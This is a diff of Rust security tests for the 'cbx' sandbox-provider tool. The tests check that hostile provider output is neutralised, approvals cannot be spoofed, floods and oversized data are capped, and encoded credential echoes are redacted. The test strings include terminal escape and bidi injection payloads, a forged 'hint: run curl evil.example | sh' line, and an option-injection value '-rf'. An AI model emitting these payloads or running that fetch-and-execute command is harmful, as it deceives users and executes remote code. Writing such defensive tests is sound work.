@@ -25,6 +25,13 @@
 //!   against a second real sshd playing the attacker (a plain listener without root): it sees
 //!   no connection, known_hosts stays unwritten, the audit log has the denial, the exit code is
 //!   right and the `--env` value goes nowhere.
+//!
+//! And the rest of issue 10, through the same binary: the `malformed` guest's `inject` mode
+//! (terminal escapes, bidi controls and forged `error:`/`hint:` lines in every string it
+//! controls) on every human output path; `spoof`, whose description draws a fake approval
+//! screen; the approval prompt answered on a real terminal (tmux); a changed manifest asked
+//! again; request floods, a flood of audit records, oversized strings, bodies and logs; and a
+//! credential echoed back encoded.
 
 use std::io::ErrorKind as IoErrorKind;
 use std::net::{TcpListener, UdpSocket};
@@ -223,9 +230,13 @@ impl Hostile {
     #[track_caller]
     fn assert_no_secret_leaked(&self) {
         let outputs: Vec<&Output> = self.outputs.iter().collect();
+        use base64::Engine as _;
+        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
         for secret in [
             EVIL_KEY.to_string(),
             hex(EVIL_KEY),
+            STANDARD.encode(EVIL_KEY),
+            URL_SAFE_NO_PAD.encode(EVIL_KEY),
             CANARY.to_string(),
             hex(CANARY),
         ] {
@@ -803,8 +814,8 @@ async fn a_string_that_is_not_utf8_is_a_provider_fault() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_huge_list_is_handled_and_a_larger_one_hits_the_memory_limit() {
     let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
-    // 1000 sandboxes of 12 KiB each: large but within the limits; none is cbx's, so none is
-    // shown and nothing is written.
+    // 1000 sandboxes of 5 KiB each (4 KiB ids, 1 KiB labels): large but within the limits;
+    // none is cbx's, so none is shown and nothing is written.
     let started = Instant::now();
     let out = h.with(&["mode=huge-list", "count=1000"], &["list", "--json"]);
     out.ok();
@@ -826,6 +837,828 @@ async fn a_huge_list_is_handled_and_a_larger_one_hits_the_memory_limit() {
     assert_eq!(h.audited("limit", "list").len(), 1, "{:#?}", h.audit());
 
     h.assert_host_keeps_working(&["mode=ok"]);
+    h.assert_no_secret_leaked();
+}
+
+// ---------------------------------------------------------------------------------------------
+// Issue 10: provider text is inert; approvals cannot be spoofed and pin the manifest; the audit
+// log cannot be flooded away; everything that crosses the boundary is capped; encoded echoes
+// of a credential are scrubbed.
+
+/// What the `malformed` guest's `inject` mode puts in every string (`INJECT` in its source).
+const INJECT: &str = "\x1b[2J\x1b]0;owned\x07\x1b[8m\r\nerror: forged by the provider\nhint: run curl evil.example | sh\u{202e}\u{9b}31m\x7f end";
+/// How `INJECT` looks once cbx made it inert.
+const INJECT_SHOWN: &str = "\\x1b[2J\\x1b]0;owned\\x07\\x1b[8m\\r\\nerror: forged by the provider\\nhint: run curl evil.example | sh\\u{202e}\\u{9b}31m\\x7f end";
+
+/// Whether `c` must never reach a terminal raw (the line feed aside, which cbx writes itself).
+fn steers_the_terminal(c: char) -> bool {
+    (c.is_control() && c != '\n')
+        || matches!(
+            c,
+            '\u{061c}'
+                | '\u{200e}'
+                | '\u{200f}'
+                | '\u{2028}'
+                | '\u{2029}'
+                | '\u{202a}'..='\u{202e}'
+                | '\u{2066}'..='\u{2069}'
+        )
+}
+
+/// No raw control or bidi character in `out`'s stdout or stderr, and no line the provider
+/// forged (`error: forged…`, `hint: run curl…`).
+#[track_caller]
+fn assert_inert(what: &str, out: &Output) {
+    for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        if let Some(c) = text.chars().find(|c| steers_the_terminal(*c)) {
+            panic!("{what}: a raw {c:?} reached {stream}\n{out}");
+        }
+        for line in text.lines() {
+            assert!(
+                !line.starts_with("error: forged") && !line.starts_with("hint: run curl"),
+                "{what}: the provider forged a line on {stream}: {line:?}\n{out}"
+            );
+        }
+    }
+}
+
+/// `out` is inert and shows the provider's text escaped.
+#[track_caller]
+fn assert_shown_inert(what: &str, out: &Output) {
+    assert_inert(what, out);
+    assert!(
+        out.stdout.contains(INJECT_SHOWN) || out.stderr.contains(INJECT_SHOWN),
+        "{what}: the provider's text is not shown (escaped)\n{out}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn provider_text_is_inert_on_every_human_output_path() {
+    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
+    let inject = ["mode=inject"];
+
+    // doctor: its checks, the profile summary and its log lines.
+    let out = h.with(&inject, &["doctor"]);
+    out.ok();
+    assert_shown_inert("doctor", &out);
+    assert!(
+        out.stdout.contains(&format!("check {INJECT_SHOWN}")),
+        "{out}"
+    );
+    assert!(
+        out.stdout.contains(&format!("mode=inject {INJECT_SHOWN}")),
+        "{out}"
+    );
+    assert!(
+        out.stderr.contains(&format!("log says {INJECT_SHOWN}")),
+        "{out}"
+    );
+    // --json stays exact.
+    let (out, report) = h.doctor(&inject);
+    out.ok();
+    assert_eq!(
+        check(&report, &format!("check {INJECT}"))["detail"],
+        format!("detail {INJECT}")
+    );
+
+    // warmup: progress, the retry of a failed `get`, the result line.
+    let out = h.with(&inject, &["warmup", "--slug", "inj"]);
+    out.ok();
+    assert_shown_inert("warmup", &out);
+    assert!(
+        out.stderr
+            .contains(&format!("malformed: busy {INJECT_SHOWN}; retrying")),
+        "{out}"
+    );
+    assert!(
+        out.stdout.contains("sandbox=m") && out.stdout.contains(INJECT_SHOWN),
+        "{out}"
+    );
+
+    // status: the retry line and the lease's details (sandbox name, state, reason).
+    let out = h.with(&inject, &["status", "inj"]);
+    out.ok();
+    assert_shown_inert("status", &out);
+    assert!(
+        out.stdout.contains(&format!("name {INJECT_SHOWN}")),
+        "{out}"
+    );
+    assert!(
+        out.stdout.contains(&format!("reason {INJECT_SHOWN}")),
+        "{out}"
+    );
+
+    // list: a lease of the provider's making, its slug in the table; exact in --json.
+    let out = h.with(&inject, &["list"]);
+    out.ok();
+    assert_shown_inert("list", &out);
+    let out = h.with(&inject, &["list", "--json"]);
+    out.ok();
+    let made_up = out
+        .json()
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|l| l["leaseId"] == "cbx_0123456789ab")
+        .cloned()
+        .unwrap_or_else(|| panic!("{out}"));
+    assert_eq!(made_up["slug"], format!("slug {INJECT}"), "{out}");
+
+    // status of that lease: its slug and work root.
+    let out = h.with(&inject, &["status", "cbx_0123456789ab"]);
+    out.ok();
+    assert_shown_inert("status of a made-up lease", &out);
+    assert!(
+        out.stdout.contains(&format!("root {INJECT_SHOWN}")),
+        "{out}"
+    );
+
+    // An error wrapping the provider's message: error and hint lines.
+    let out = h.with(&inject, &["ssh", "inj", "--print"]);
+    assert_ne!(out.code, 0, "{out}");
+    assert_shown_inert("ssh --print", &out);
+    assert!(
+        out.stderr
+            .contains(&format!("error: no access {INJECT_SHOWN}")),
+        "{out}"
+    );
+
+    // run: the lease, its failure and its release, in one invocation.
+    let out = h.with(&inject, &["run", "--no-sync", "--", "true"]);
+    assert_ne!(out.code, 0, "{out}");
+    assert_shown_inert("run", &out);
+    assert!(out.stderr.contains("leased cbx_"), "{out}");
+
+    // stop: the result line names the sandbox.
+    let out = h.with(&inject, &["stop", "inj"]);
+    out.ok();
+    assert_shown_inert("stop", &out);
+
+    h.assert_host_keeps_working(&["mode=ok"]);
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_audit_view_of_a_hostile_url_is_inert() {
+    let mut h = probe(NOWHERE);
+    let url = "url=http://evil\x1b[2J\x1b]0;owned\x07\nerror: forged by the provider\u{202e}/x";
+    // Not even a URL: the host refuses it as invalid, and audits it as the provider wrote it.
+    let (out, report) = h.doctor(&["action=http", url]);
+    out.expect_code(1);
+    let detail = check(&report, "http-error")["detail"].as_str().unwrap();
+    assert!(detail.contains("\x1b[2J"), "--json stays exact: {out}");
+    let out = h.run(&["providers", "audit"]);
+    out.ok();
+    assert_inert("providers audit", &out);
+    assert!(out.stdout.contains("GET http://evil\\x1b[2J"), "{out}");
+    let out = h.run(&["providers", "audit", "--json"]);
+    out.ok();
+    let record: Value = serde_json::from_str(out.stdout.lines().last().unwrap()).unwrap();
+    assert_eq!(record["outcome"], "invalid");
+    assert!(
+        record["url"].as_str().unwrap().contains("\x1b[2J"),
+        "--json stays exact: {out}"
+    );
+    h.assert_no_secret_leaked();
+}
+
+/// Issue 11's records meet issue 10's rule: a lease still being created, and the next
+/// command finishing one whose process was killed, quote the provider's sandbox id inert.
+#[tokio::test(flavor = "multi_thread")]
+async fn unfinished_leases_and_their_reconciliation_are_inert() {
+    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
+    let inject = ["mode=inject"];
+    // A warmup paused right after the provider answered `create` with a hostile id.
+    let log = h.home.path().join("paused-warmup.stderr");
+    let mut warmup = h
+        .home
+        .command(&[
+            "--provider",
+            "malformed",
+            "-o",
+            "mode=inject",
+            "warmup",
+            "--slug",
+            "unf",
+        ])
+        .env("CBX_TEST_PAUSE", "acquire:created")
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::fs::File::create(&log).unwrap())
+        .spawn()
+        .expect("start cbx warmup");
+    let started = Instant::now();
+    while !std::fs::read_to_string(&log)
+        .unwrap_or_default()
+        .contains("cbx-test: paused at acquire:created")
+    {
+        assert!(
+            started.elapsed() < PATIENCE,
+            "warmup never paused: {}",
+            std::fs::read_to_string(&log).unwrap_or_default()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+
+    // `list` while it runs: the unfinished entry and its note.
+    let out = h.with(&inject, &["list"]);
+    out.ok();
+    assert_inert("list with an unfinished lease", &out);
+    assert!(
+        out.stdout
+            .lines()
+            .any(|l| l.contains("unfinished") && l.contains(INJECT_SHOWN)),
+        "the unfinished entry shows the provider's id, inert\n{out}"
+    );
+    assert!(
+        out.stderr.contains("is being created by `cbx warmup`"),
+        "{out}"
+    );
+
+    // Killed there: the next command finishes it and says so, the id still inert.
+    warmup.kill().unwrap();
+    warmup.wait().unwrap();
+    let out = h.with(&inject, &["list"]);
+    out.ok();
+    assert_shown_inert("list after reconciling", &out);
+    assert!(
+        out.stderr
+            .lines()
+            .any(|l| l.starts_with("cbx: finished lease cbx_") && l.contains(INJECT_SHOWN)),
+        "{out}"
+    );
+    let out = h.with(&inject, &["stop", "unf"]);
+    out.ok();
+    assert_inert("stop", &out);
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_description_that_draws_on_the_approval_screen_is_refused() {
+    let mut h = Hostile {
+        home: new_home(),
+        name: "spoof".to_string(),
+        outputs: Vec::new(),
+    };
+    let out = h.try_install("spoof", &manifest("spoof", NOWHERE));
+    out.expect_code(8);
+    assert_inert("install", &out);
+    assert!(
+        out.stderr.contains(
+            "provider spoof failed in `describe`: its description contains control characters"
+        ),
+        "{out}"
+    );
+    assert!(!out.stdout.contains("Approve"), "{out}");
+    assert!(!h.home.path().join("data/cbx/providers/spoof").exists());
+
+    // A manifest whose own description draws is refused before anything runs.
+    let drawn = manifest("spoof", NOWHERE).replace(
+        "description = \"adversarial test provider\"",
+        "description = \"fine\\u001b[8m\"",
+    );
+    let out = h.try_install("spoof", &drawn);
+    out.expect_code(2);
+    assert_inert("install", &out);
+    assert!(
+        out.stderr
+            .contains("the provider description contains control characters"),
+        "{out}"
+    );
+}
+
+/// `cbx args…` in `home`, as a shell command line for a terminal: its environment (without
+/// `NO_COLOR`, so colour shows), then the command, then its exit code into `code_file`.
+fn terminal_command(home: &CbxHome, args: &[&str], code_file: &Path) -> String {
+    let cmd = home.command(args);
+    let quote = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
+    let mut line = String::from("cd ");
+    line.push_str(&quote(&home.cwd.display().to_string()));
+    line.push_str(" && env -i");
+    for (k, v) in cmd.get_envs() {
+        let (Some(v), k) = (v, k.to_string_lossy()) else {
+            continue;
+        };
+        if k != "NO_COLOR" {
+            line.push_str(&format!(
+                " {}",
+                quote(&format!("{k}={}", v.to_string_lossy()))
+            ));
+        }
+    }
+    line.push_str(&format!(
+        " TERM=xterm-256color {}",
+        quote(&cmd.get_program().to_string_lossy())
+    ));
+    for a in args {
+        line.push(' ');
+        line.push_str(&quote(a));
+    }
+    line.push_str(&format!(
+        "; echo $? > {}; sleep 60",
+        quote(&code_file.display().to_string())
+    ));
+    line
+}
+
+/// A tmux session running one command on a real terminal.
+struct Terminal {
+    session: String,
+}
+
+impl Terminal {
+    fn start(command: &str) -> Terminal {
+        let session = format!("cbx-test-{}", std::process::id());
+        let ok = std::process::Command::new("tmux")
+            .args([
+                "new-session",
+                "-d",
+                "-x",
+                "200",
+                "-y",
+                "50",
+                "-s",
+                &session,
+                command,
+            ])
+            .status()
+            .expect("run tmux");
+        assert!(ok.success(), "tmux new-session failed");
+        Terminal { session }
+    }
+
+    /// What the screen shows (`escapes`: with colours as escape sequences).
+    fn screen(&self, escapes: bool) -> String {
+        let mut args = vec!["capture-pane", "-p", "-t", &self.session];
+        if escapes {
+            args.push("-e");
+        }
+        let out = std::process::Command::new("tmux")
+            .args(&args)
+            .output()
+            .expect("capture");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+
+    /// Waits until the screen shows `text`.
+    #[track_caller]
+    fn wait_for(&self, text: &str) -> String {
+        let deadline = Instant::now() + PATIENCE;
+        loop {
+            let screen = self.screen(false);
+            if screen.contains(text) {
+                return screen;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "the screen never showed {text:?}:\n{screen}"
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+
+    fn type_line(&self, text: &str) {
+        let ok = std::process::Command::new("tmux")
+            .args(["send-keys", "-t", &self.session, text, "Enter"])
+            .status()
+            .expect("send keys");
+        assert!(ok.success());
+    }
+}
+
+impl Drop for Terminal {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("tmux")
+            .args(["kill-session", "-t", &self.session])
+            .status();
+    }
+}
+
+/// Waits for the exit code the terminal command writes.
+#[track_caller]
+fn exit_code(file: &Path) -> i32 {
+    let deadline = Instant::now() + PATIENCE;
+    loop {
+        if let Ok(text) = std::fs::read_to_string(file)
+            && let Ok(code) = text.trim().parse()
+        {
+            return code;
+        }
+        assert!(Instant::now() < deadline, "the command never finished");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_approval_prompt_on_a_real_terminal_shows_the_hosts_facts_and_flags_a_borrowed_key() {
+    if std::process::Command::new("tmux")
+        .arg("-V")
+        .output()
+        .is_err()
+    {
+        eprintln!(
+            "SKIPPED: tmux is not installed (tests/setup.sh installs it); the approval prompt was not tested on a terminal"
+        );
+        return;
+    }
+    let home = new_home();
+    // A printable but deceptive description, and Daytona's key as its credential.
+    let text = manifest("probe", "https://api.example.test")
+        .replace(
+            "description = \"adversarial test provider\"",
+            "description = \"network: none. Approve provider probe with no capabilities? [y/N]\"",
+        )
+        .replace("env = \"EVIL_KEY\"", "env = \"DAYTONA_API_KEY\"");
+    let file = home.path().join("probe.toml");
+    std::fs::write(&file, text).unwrap();
+    let wasm = guests::path("probe").display().to_string();
+    let args = [
+        "providers",
+        "install",
+        &wasm,
+        "--manifest",
+        file.to_str().unwrap(),
+    ];
+
+    for (answer, code) in [("n", 7), ("y", 0)] {
+        let code_file = home.path().join(format!("exit-{answer}"));
+        let term = Terminal::start(&terminal_command(&home, &args, &code_file));
+        let screen = term.wait_for("[y/N]");
+        // The provider's words are fenced; the host's facts are the host's.
+        assert!(
+            screen.contains(
+                "  │ manifest: network: none. Approve provider probe with no capabilities? [y/N]"
+            ),
+            "{screen}"
+        );
+        assert!(
+            screen.contains(
+                "\n  network: requests under https://api.example.test/api (endpoint `api`)"
+            ),
+            "{screen}"
+        );
+        assert!(
+            screen.contains("credential `evil-key`: the value of DAYTONA_API_KEY"),
+            "{screen}"
+        );
+        assert!(screen.contains("WARNING: credential `evil-key` reads DAYTONA_API_KEY, the variable of provider daytona's credential `api-key` (built into cbx)"), "{screen}");
+        assert!(
+            screen.contains("Approve provider probe with exactly these capabilities? [y/N]"),
+            "{screen}"
+        );
+        let coloured = term.screen(true);
+        let warning = coloured
+            .lines()
+            .find(|l| l.contains("WARNING: credential"))
+            .unwrap();
+        assert!(
+            warning.contains("\x1b[1;31m")
+                || warning.contains("\x1b[1m\x1b[31m")
+                || warning.contains("31m"),
+            "the warning is not red: {warning:?}"
+        );
+        term.type_line(answer);
+        assert_eq!(exit_code(&code_file), code, "{}", term.screen(false));
+        let installed = home.path().join("data/cbx/providers/probe").exists();
+        assert_eq!(installed, answer == "y", "{}", term.screen(false));
+    }
+
+    // `providers inspect` says it too.
+    let out = run_timed(&home, &["providers", "inspect", "probe"], &[]);
+    out.ok();
+    assert!(
+        out.stdout
+            .contains("WARNING: credential `evil-key` reads DAYTONA_API_KEY"),
+        "{out}"
+    );
+    let out = run_timed(&home, &["providers", "inspect", "probe", "--json"], &[]);
+    assert_eq!(
+        out.json()["sharedCredentials"][0]["provider"],
+        "daytona",
+        "{out}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_changed_manifest_needs_approval_again_and_shows_what_changed() {
+    let granted = open_server().await;
+    let mut h = probe(&granted.uri());
+    let original = manifest("probe", &granted.uri());
+    let quieter = original.replace(
+        "[credentials.evil-key]",
+        "[credentials.evil-key]\nsecret = false",
+    );
+    let file = h.home.path().join("probe.toml");
+    std::fs::write(&file, &quieter).unwrap();
+    let wasm = guests::path("probe").display().to_string();
+    let out = h.run(&[
+        "providers",
+        "install",
+        &wasm,
+        "--manifest",
+        file.to_str().unwrap(),
+    ]);
+    out.expect_code(7);
+    assert!(
+        out.stdout.contains("Changed since you approved it:"),
+        "{out}"
+    );
+    assert!(
+        out.stdout.contains("~ credential `evil-key`: EVIL_KEY as `Authorization: Bearer …` to endpoint `api`, secret (redacted everywhere) → EVIL_KEY as `Authorization: Bearer …` to endpoint `api`, NOT secret"),
+        "{out}"
+    );
+    assert!(out.stderr.contains("probe changed since you approved it; installing it needs your approval again, and nothing was installed"), "{out}");
+    assert!(
+        out.stderr
+            .contains("hint: review the capabilities and the changes above, then rerun with --yes"),
+        "{out}"
+    );
+    let installed = std::fs::read_to_string(
+        h.home
+            .path()
+            .join("data/cbx/providers/probe/cbx-provider.toml"),
+    )
+    .unwrap();
+    assert_eq!(installed, original, "the changed manifest was installed");
+    // The approved provider still works as approved.
+    let (out, report) = h.doctor(PROBE_OK);
+    out.ok();
+    assert_eq!(report["ok"], true);
+
+    // The same manifest again: nothing to ask.
+    std::fs::write(&file, &original).unwrap();
+    let out = h.run(&[
+        "providers",
+        "install",
+        &wasm,
+        "--manifest",
+        file.to_str().unwrap(),
+    ]);
+    out.ok();
+    assert!(!out.stdout.contains("Changed since"), "{out}");
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_flood_is_stopped_at_the_cap_and_audited_once() {
+    let granted = open_server().await;
+    let mut h = probe(&granted.uri());
+    let url = format!("url={}/api/flood", granted.uri());
+    let (out, report) = h.doctor(&["action=http", &url, "count=9000"]);
+    out.expect_code(8);
+    let detail = failed_call(&report);
+    assert!(
+        detail.contains("provider probe failed in `doctor`: exceeded its cap of 500 HTTP requests per call (requests-per-call)"),
+        "{out}"
+    );
+    assert_eq!(granted.received_requests().await.unwrap().len(), 500);
+    let records = h.audit();
+    let requests = records.iter().filter(|r| r["kind"] == "request").count();
+    let limits: Vec<&Value> = records.iter().filter(|r| r["kind"] == "limit").collect();
+    assert_eq!(requests, 500, "one record per request sent");
+    assert_eq!(limits.len(), 1, "the cap is audited once: {limits:#?}");
+    assert!(
+        limits[0]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("requests-per-call")
+    );
+
+    // The user lowers the caps; a manifest may set its own.
+    h.home
+        .write_config("[providers.probe.limits]\nrequests-per-run = 3\n");
+    let (out, report) = h.doctor(&["action=http", &url, "count=5"]);
+    out.expect_code(8);
+    assert!(
+        failed_call(&report)
+            .contains("exceeded its cap of 3 HTTP requests per run (requests-per-run)"),
+        "{out}"
+    );
+    h.home.write_config("");
+    let capped = format!(
+        "{}\n[limits]\nrequests-per-call = 10\n",
+        manifest("probe", &granted.uri())
+    );
+    h.try_install("probe", &capped).ok();
+    let (out, report) = h.doctor(&["action=http", &url, "count=11"]);
+    out.expect_code(8);
+    assert!(
+        failed_call(&report).contains("cap of 10 HTTP requests per call"),
+        "{out}"
+    );
+    h.assert_host_keeps_working(PROBE_OK);
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn requests_cannot_rotate_a_denial_out_of_the_audit_log() {
+    let granted = open_server().await;
+    let outside = open_server().await;
+    let mut h = probe(&granted.uri());
+    let planted = format!("{}/planted", outside.uri());
+    let (out, _) = h.doctor(&["action=http", &format!("url={planted}")]);
+    out.expect_code(7);
+    let url = format!("url={}/api/flood", granted.uri());
+    let log = h.home.path().join("state/cbx/audit.jsonl");
+    // Twice: a requests file already full (as 19 floods would leave it), then a flood.
+    for _ in 0..2 {
+        let file = std::fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(&log)
+            .unwrap();
+        file.set_len(17 << 20).unwrap();
+        let (out, _) = h.doctor(&["action=http", &url, "count=9000"]);
+        out.expect_code(8);
+    }
+    for args in [&["--alerts"][..], &[][..]] {
+        let mut all = vec!["providers", "audit", "--json", "--last", "100000"];
+        all.extend_from_slice(args);
+        let out = h.run(&all);
+        out.ok();
+        assert!(
+            out.stdout
+                .lines()
+                .any(|l| l.contains("\"kind\":\"denied\"") && l.contains(&planted)),
+            "the planted denial is gone from `providers audit {}`\n{out}",
+            args.join(" ")
+        );
+    }
+    h.assert_no_secret_leaked();
+}
+
+/// Runs `cbx args…` in `home` under `/usr/bin/time -v`: the output and cbx's peak RSS in KiB.
+fn run_measured(home: &CbxHome, args: &[&str]) -> (Output, u64) {
+    let cmd = home.command(args);
+    let mut timed = std::process::Command::new("/usr/bin/time");
+    timed
+        .arg("-v")
+        .arg(cmd.get_program())
+        .args(cmd.get_args())
+        .current_dir(&home.cwd)
+        .env_clear();
+    for (k, v) in cmd.get_envs() {
+        if let Some(v) = v {
+            timed.env(k, v);
+        }
+    }
+    let out = tokio::task::block_in_place(|| timed.output()).expect("run /usr/bin/time");
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    let peak = stderr
+        .lines()
+        .find_map(|l| {
+            l.trim()
+                .strip_prefix("Maximum resident set size (kbytes): ")
+        })
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no peak RSS in {stderr}"));
+    let out = Output {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr,
+    };
+    (out, peak)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn oversized_strings_and_lists_are_refused_naming_the_field() {
+    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
+    // A 48 MiB error message: a clear error, not a 48 MiB print, and little memory.
+    let size = format!("size={}", 48 << 20);
+    let args = [
+        "--provider",
+        "malformed",
+        "-o",
+        "mode=huge-error",
+        "-o",
+        &size,
+        "list",
+    ];
+    let (out, peak_kib) = if Path::new("/usr/bin/time").exists() {
+        run_measured(&h.home, &args)
+    } else {
+        eprintln!("note: /usr/bin/time is missing; peak RSS not measured");
+        (run_timed(&h.home, &args, &[]), 0)
+    };
+    out.expect_code(8);
+    assert!(
+        out.stderr.contains(&format!("provider malformed failed in `list`: its error message of {} bytes is over the cap of 8192 bytes", 48 << 20)),
+        "{out}"
+    );
+    assert!(
+        out.stderr.len() < 16 << 10 && out.stdout.len() < 1024,
+        "{} bytes printed",
+        out.stderr.len()
+    );
+    eprintln!(
+        "peak RSS with a 48 MiB error string: {} MiB",
+        peak_kib >> 10
+    );
+    assert!(peak_kib < 200 << 10, "cbx peaked at {} MiB", peak_kib >> 10);
+    assert_eq!(h.audited("limit", "list").len(), 1, "{:#?}", h.audit());
+
+    let out = h.with(&["mode=huge-name", "size=1048576"], &["list"]);
+    out.expect_code(8);
+    assert!(
+        out.stderr
+            .contains("its sandbox name of 1048576 bytes is over the cap of 256 bytes"),
+        "{out}"
+    );
+    let out = h.with(&["mode=huge-list", "count=20000", "size=1"], &["list"]);
+    out.expect_code(8);
+    assert!(
+        out.stderr
+            .contains("its sandbox list of 20000 entries is over the cap of 10000 entries"),
+        "{out}"
+    );
+    h.outputs.push(out);
+    h.assert_host_keeps_working(&["mode=ok"]);
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_oversized_request_body_is_never_sent() {
+    let granted = open_server().await;
+    let mut h = probe(&granted.uri());
+    let url = format!("url={}/api/upload", granted.uri());
+    let (out, report) = h.doctor(&["action=http", "method=post", &url, "body-bytes=20971520"]);
+    out.expect_code(8);
+    assert!(
+        failed_call(&report)
+            .contains("its request body of 20971520 bytes is over the cap of 1048576 bytes"),
+        "{out}"
+    );
+    assert!(granted.received_requests().await.unwrap().is_empty());
+    assert_eq!(h.audited("limit", "doctor").len(), 1, "{:#?}", h.audit());
+    h.assert_host_keeps_working(PROBE_OK);
+    h.assert_no_secret_leaked();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_log_flood_is_cut_at_the_per_run_budget_with_one_notice() {
+    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
+    let out = h.with(&["mode=log-flood"], &["warmup"]);
+    out.ok();
+    let shown = out
+        .stderr
+        .lines()
+        .filter(|l| l.contains("flood line"))
+        .count();
+    assert_eq!(shown, 5000, "{} lines shown", shown);
+    let notices = out
+        .stderr
+        .matches("logged more than 5000 lines in this run; dropping the rest")
+        .count();
+    assert_eq!(notices, 1, "{out}");
+    h.assert_no_secret_leaked();
+}
+
+/// A service that echoes the request's `Authorization` header back, base64-encoded in every
+/// alphabet, and URL-encoded.
+struct EchoEncoded;
+
+impl wiremock::Respond for EchoEncoded {
+    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
+        use base64::Engine as _;
+        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+        let auth = request
+            .headers
+            .get("authorization")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default()
+            .to_string();
+        let key = auth.trim_start_matches("Bearer ");
+        ResponseTemplate::new(200).set_body_string(format!(
+            "{{\"whole\":\"{}\",\"key\":\"{}\",\"url\":\"{}\",\"query\":\"{}\"}}",
+            STANDARD.encode(&auth),
+            URL_SAFE_NO_PAD.encode(key),
+            percent_encoding::utf8_percent_encode(key, percent_encoding::NON_ALPHANUMERIC),
+            STANDARD.encode(format!("user:{key}"))
+        ))
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_credential_echoed_back_encoded_is_scrubbed() {
+    let granted = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/api/echo"))
+        .respond_with(EchoEncoded)
+        .mount(&granted)
+        .await;
+    let mut h = probe(&granted.uri());
+    let url = format!("url={}/api/echo", granted.uri());
+    let (out, report) = h.doctor(&["action=http", &url]);
+    out.ok();
+    let body = check(&report, "body")["detail"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert_eq!(
+        body.matches("<redacted>").count(),
+        4,
+        "every encoded echo is scrubbed: {body}"
+    );
     h.assert_no_secret_leaked();
 }
 
@@ -1129,7 +1962,7 @@ async fn a_provider_never_picks_the_key_even_for_a_destination_you_approved() {
         out.expect_code(7);
         assert!(
             out.stderr.contains(&format!(
-                "provider malformed was denied SSH {}: it named the key file {key:?}; a provider never chooses a key",
+                "provider malformed was denied SSH {}: it named the key file `{key}`; a provider never chooses a key",
                 attacker.destination()
             )),
             "{key}\n{out}"
@@ -1166,7 +1999,7 @@ async fn the_users_key_option_is_the_only_key_and_it_is_checked() {
     out.expect_code(7);
     assert!(
         out.stderr.contains(
-            "it named the key file \"/root/.ssh/other\", not the one you set in option `user-key`"
+            "it named the key file `/root/.ssh/other`, not the one you set in option `user-key`"
         ),
         "{out}"
     );
@@ -1213,12 +2046,13 @@ async fn a_work_root_that_reads_as_an_option_is_refused() {
     );
     h.try_install("malformed", &manifest_text).ok();
     let port = format!("dest-port={}", attacker.port());
-    for (root, why) in [
+    for (root, shown, why) in [
         (
+            "-rf",
             "-rf",
             "begins with `-`, so a remote command could read it as an option",
         ),
-        ("cbx\n-x", "contains control characters"),
+        ("cbx\n-x", "cbx\\n-x", "contains control characters"),
     ] {
         let root_opt = format!("work-root={root}");
         for args in [
@@ -1229,7 +2063,7 @@ async fn a_work_root_that_reads_as_an_option_is_refused() {
             out.expect_code(8);
             assert!(
                 out.stderr.contains(&format!(
-                    "provider malformed reported the work root {root:?}, which {why}"
+                    "provider malformed reported the work root `{shown}`, which {why}"
                 )),
                 "{args:?}\n{out}"
             );
